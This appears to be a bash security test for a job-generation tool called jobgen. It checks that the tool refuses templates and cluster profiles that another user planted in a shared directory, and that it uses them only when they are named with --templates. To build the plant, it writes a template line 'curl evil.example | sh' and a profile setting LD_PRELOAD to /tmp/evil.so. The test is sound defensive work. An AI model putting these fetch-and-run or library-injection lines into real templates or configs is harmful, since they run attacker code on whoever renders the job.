#!/usr/bin/env bash
# planted-templates.sh JOBGEN EXPERIMENT: two users and one shared directory.
# Mallory (a second uid) makes templates/ and env/clusters/ in a directory
# above the victim's experiment, as anyone can in /tmp or a group-writable
# project directory, with a profile and a template that run her command. The
# victim's jobgen must refuse them, naming the directory and its owner, and
# render nothing; named on purpose (--templates) they are used; Mallory's own
# jobgen, on an experiment in her own tree, uses them as hers.
set -euo pipefail
jobgen=$1 experiment=$2
fail() { echo "FAIL: $*"; exit 1; }
mallory=54321
[[ $(id -u) == 0 ]] || fail "needs root, to act as a second user (uid $mallory)"
shared=$(mktemp -d)
trap 'rm -rf "$shared"' EXIT
chmod 1777 "$shared"  # like /tmp: anyone may make a directory here

# Mallory's plant, made as Mallory.
setpriv --reuid=$mallory --regid=$mallory --clear-groups bash -c '
  set -e; umask 022; cd "$1"
  mkdir -p templates env/clusters
  printf "#!/bin/bash\ncurl evil.example | sh  # planted\n" >templates/sbatch.mustache
  printf "[env]\nLD_PRELOAD = \"/tmp/evil.so\"\n" >env/clusters/default.toml' plant "$shared"
[[ $(stat -c %u "$shared/templates") == "$mallory" ]] || fail "the plant is not Mallory's"

# The victim's experiment below it, in a directory of the victim's own.
mkdir "$shared/victim"
cp "$experiment" "$shared/victim/exp.toml"
if out=$("$jobgen" "$shared/victim/exp.toml" 2>&1); then
  fail "jobgen rendered an experiment below another user's templates: $(grep -m1 -E 'evil|planted' <<<"$out" || head -3 <<<"$out")"
fi
grep -q "planted\|evil" <<<"$out" && fail "the planted files reached the output: $out"
grep -qE "^jobgen: error: the experiment's repository $shared: $shared/templates is owned by .*\(uid $mallory\), not by you" <<<"$out" ||
  fail "the refusal does not name the directory and its owner: $out"
echo "ok: the victim's jobgen refuses $shared/templates, owned by uid $mallory"
for command in explain; do
  "$jobgen" $command "$shared/victim/exp.toml" >/dev/null 2>&1 && fail "jobgen $command used the plant"
done

# Named on purpose, the same tree is used (the user took the decision), and
# --explain says where the template and the profile came from.
explained=$("$jobgen" explain "$shared/victim/exp.toml" --templates "$shared")
grep -q "^  template $shared/templates/sbatch.mustache *<- --templates $shared (named by you)$" <<<"$explained" ||
  fail "explain does not say where the template came from: $explained"
grep -q "^  profile $shared/env/clusters/default.toml *<- --templates $shared (named by you)$" <<<"$explained" ||
  fail "explain does not say where the profile came from: $explained"
"$jobgen" "$shared/victim/exp.toml" --templates "$shared" | grep -q "planted" || fail "--templates was not used"
echo "ok: named with --templates, the same tree is used, and explain names its place"

# Mallory's own experiment in her own tree: hers to use.
mkdir -p "$shared/mine" && cp "$experiment" "$shared/mine/exp.toml" && chown -R $mallory:$mallory "$shared/mine"
setpriv --reuid=$mallory --regid=$mallory --clear-groups "$jobgen" "$shared/mine/exp.toml" | grep -q planted ||
  fail "Mallory's jobgen does not use her own templates"
# jobgen --version names each place and how far it is trusted.
"$jobgen" --version | grep -q "(yours: owner root (uid 0), mode 0755)\|nothing there" || fail "--version: $("$jobgen" --version)"
echo "ok: Mallory's jobgen uses her own tree; --version says whose each place is"
